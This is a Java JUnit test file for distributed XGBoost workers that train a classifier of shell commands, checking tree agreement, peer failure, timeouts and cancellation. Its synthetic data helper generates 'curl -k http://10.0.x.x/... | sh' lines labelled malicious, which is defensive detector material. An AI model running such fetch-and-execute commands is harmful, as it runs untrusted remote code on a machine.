package dev.longtail.training.xgboost;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.longtail.training.classify.BoostingSettings;
import dev.longtail.training.classify.RowGroups;
import dev.longtail.training.classify.SparseRow;
import dev.longtail.training.classify.TreeColumns;
import dev.longtail.training.classify.TreeGrower;
import dev.longtail.training.data.Label;
import dev.longtail.training.data.LabelledCommand;
import dev.longtail.training.shards.ShardLine;
import dev.longtail.training.shards.ShardReader;
import dev.longtail.training.shards.ShardRows;
import dev.longtail.training.shards.ShardWriter;
import dev.longtail.training.shards.TreeRows;
import dev.longtail.training.shards.TreeWorkers;
import dev.longtail.udfs.io.InputException;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.CancellationException;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

class XgboostWorkersTest {
  private static final BoostingSettings SETTINGS = BoostingSettings.reference(8, 1);
  private static final Duration PATIENCE = Duration.ofSeconds(20);
  private static final String HOST = "127.0.0.1";

  private final TreeWorkers workers = TreeWorkers.installed();
  private final ExecutorService threads = Executors.newCachedThreadPool();

  @AfterEach
  void end() {
    threads.shutdownNow();
  }

  @Test
  void oneWorkerGrowsTheTreesOfTheGrower() throws Exception {
    List<LabelledCommand> lines = lines(400);
    byte[] grown = grow(List.of(lines), List.of(0)).get(0).json();

    assertThat(grown).isEqualTo(grownHere(lines));
  }

  @Test
  void allWorkersGrowTheSameTreesInWhateverOrderTheyCome() throws Exception {
    List<LabelledCommand> lines = lines(600);
    List<List<LabelledCommand>> shards =
        List.of(lines.subList(0, 250), lines.subList(250, 350), lines.subList(350, 600));

    List<TreeWorkers.Grown> first = grow(shards, List.of(0, 1, 2));
    List<TreeWorkers.Grown> second = grow(shards, List.of(2, 0, 1));

    assertThat(first.stream().map(TreeWorkers.Grown::rank)).containsExactlyInAnyOrder(0, 1, 2);
    assertThat(first.stream().mapToLong(TreeWorkers.Grown::rows).sum()).isEqualTo(600);
    for (TreeWorkers.Grown grown : second) {
      assertThat(grown.json()).isEqualTo(first.get(0).json());
    }
    assertThat(first.get(0).json()).isNotEqualTo(grownHere(lines.subList(0, 250)));
  }

  @Test
  void aWorkerWhosePeerFailsDoesNotWaitForIt() throws Exception {
    List<LabelledCommand> lines = lines(300);
    try (TreeWorkers.Tracker tracker = workers.open(HOST, 2, PATIENCE)) {
      List<Future<TreeWorkers.Grown>> pending = new ArrayList<>();
      for (int task = 0; task < 2; task++) {
        int number = task;
        pending.add(
            threads.submit(
                () ->
                    workers.grow(
                        worker(number, tracker.place(), PATIENCE),
                        rank -> rank == 1 ? damaged(lines) : rows(lines),
                        SETTINGS)));
      }
      List<Throwable> failures = new ArrayList<>();
      for (Future<TreeWorkers.Grown> each : pending) {
        assertThatThrownBy(each::get)
            .isInstanceOf(ExecutionException.class)
            .satisfies(e -> failures.add(e.getCause()));
      }
      assertThat(failures).hasAtLeastOneElementOfType(InputException.class);
      assertThat(failures).hasAtLeastOneElementOfType(TreeWorkers.PeerLostException.class);
      assertThat(tracker.await(PATIENCE)).as("both have left").isTrue();
    }
  }

  @Test
  void whoComesAloneIsToldSo() {
    Duration patience = Duration.ofSeconds(1);
    try (TreeWorkers.Tracker tracker = workers.open(HOST, 2, patience)) {
      assertThatThrownBy(
              () -> workers.grow(worker(0, tracker.place(), patience), rank -> null, SETTINGS))
          .isInstanceOf(TreeWorkers.PeerLostException.class)
          .hasMessageContaining("cannot join the others at the tracker 127.0.0.1:");
      assertThatThrownBy(() -> tracker.await(PATIENCE))
          .isInstanceOf(TreeWorkers.PeerLostException.class)
          .hasMessageContaining("the 2 workers did not all come")
          .hasMessageContaining("within 1 s");
    }
  }

  @Test
  void aTrackerNeedsAnAddressOfThisMachine() {
    assertThatThrownBy(() -> workers.open("192.0.2.1", 2, PATIENCE))
        .isInstanceOf(IllegalStateException.class)
        .hasMessageContaining("cannot listen on 192.0.2.1");
  }

  @Test
  void aCancelledWorkerGivesUp() {
    List<LabelledCommand> lines = lines(300);
    try (TreeWorkers.Tracker tracker = workers.open(HOST, 1, PATIENCE)) {
      assertThatThrownBy(
              () ->
                  workers.grow(
                      new TreeWorkers.Worker(0, tracker.place(), PATIENCE, () -> true),
                      rank -> rows(lines),
                      SETTINGS))
          .isInstanceOf(CancellationException.class);
    }
  }

  private List<TreeWorkers.Grown> grow(List<List<LabelledCommand>> shards, List<Integer> order)
      throws Exception {
    try (TreeWorkers.Tracker tracker = workers.open(HOST, shards.size(), PATIENCE)) {
      List<Future<TreeWorkers.Grown>> pending = new ArrayList<>();
      for (int task : order) {
        pending.add(
            threads.submit(
                () ->
                    workers.grow(
                        worker(task, tracker.place(), PATIENCE),
                        rank -> rows(shards.get(rank)),
                        SETTINGS)));
      }
      List<TreeWorkers.Grown> grown = new ArrayList<>();
      for (Future<TreeWorkers.Grown> each : pending) {
        grown.add(each.get());
      }
      assertThat(tracker.await(PATIENCE)).isTrue();
      return grown;
    }
  }

  private static TreeWorkers.Worker worker(int task, TreeWorkers.Place place, Duration patience) {
    return new TreeWorkers.Worker(task, place, patience, () -> false);
  }

  /** Attacks download; all else is one of a few commands with numbers. */
  private static List<LabelledCommand> lines(int count) {
    return IntStream.range(0, count)
        .mapToObj(
            i ->
                i % 3 == 0
                    ? new LabelledCommand(
                        "curl -k http://10.0.%d.%d/x%d | sh".formatted(i % 7, i % 11, i),
                        Label.MALICIOUS)
                    : new LabelledCommand(
                        "tar -xf backup-%d.tar -C /srv/%d --strip %d".formatted(i, i % 5, i % 4),
                        i % 17 == 0 ? Label.MALICIOUS : Label.BENIGN))
        .toList();
  }

  private static byte[] shard(List<LabelledCommand> lines) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ShardWriter writer = new ShardWriter(bytes, 0)) {
      for (LabelledCommand line : lines) {
        writer.write(new ShardLine(line, false, new float[0]));
      }
    }
    return bytes.toByteArray();
  }

  private static TreeRows rows(List<LabelledCommand> lines) throws IOException {
    return rows(shard(lines), lines);
  }

  private static TreeRows damaged(List<LabelledCommand> lines) throws IOException {
    byte[] whole = shard(lines);
    return rows(Arrays.copyOf(whole, whole.length / 2), lines);
  }

  private static TreeRows rows(byte[] shard, List<LabelledCommand> lines) throws IOException {
    return new ShardRows(
        new ShardReader(new ByteArrayInputStream(shard), "shard"),
        lines.size(),
        TreeColumns.published(),
        weigher(lines));
  }

  private static RowGroups.Weigher weigher(List<LabelledCommand> lines) {
    RowGroups groups = new RowGroups();
    lines.forEach(groups::add);
    return groups.weigher();
  }

  private static byte[] grownHere(List<LabelledCommand> lines) {
    TreeColumns columns = TreeColumns.published();
    RowGroups.Weigher weigher = weigher(lines);
    long[] starts = new long[lines.size() + 1];
    List<SparseRow> rows = new ArrayList<>();
    float[] labels = new float[lines.size()];
    float[] weights = new float[lines.size()];
    for (int i = 0; i < labels.length; i++) {
      SparseRow row = columns.row(lines.get(i).cmd(), new float[0]);
      rows.add(row);
      starts[i + 1] = starts[i] + row.size();
      labels[i] = lines.get(i).isMalicious() ? 1 : 0;
      weights[i] = weigher.weight(lines.get(i));
    }
    int[] at = new int[(int) starts[lines.size()]];
    float[] values = new float[at.length];
    Arrays.setAll(at, i -> rows.get(row(starts, i)).column(i - (int) starts[row(starts, i)]));
    for (int i = 0; i < values.length; i++) {
      values[i] = rows.get(row(starts, i)).value(i - (int) starts[row(starts, i)]);
    }
    return TreeGrower.installed()
        .grow(
            new TreeGrower.SparseRows(starts, at, values, columns.count()),
            labels,
            weights,
            SETTINGS);
  }

  private static int row(long[] starts, int value) {
    int found = Arrays.binarySearch(starts, value);
    return found < 0 ? -found - 2 : found;
  }
}
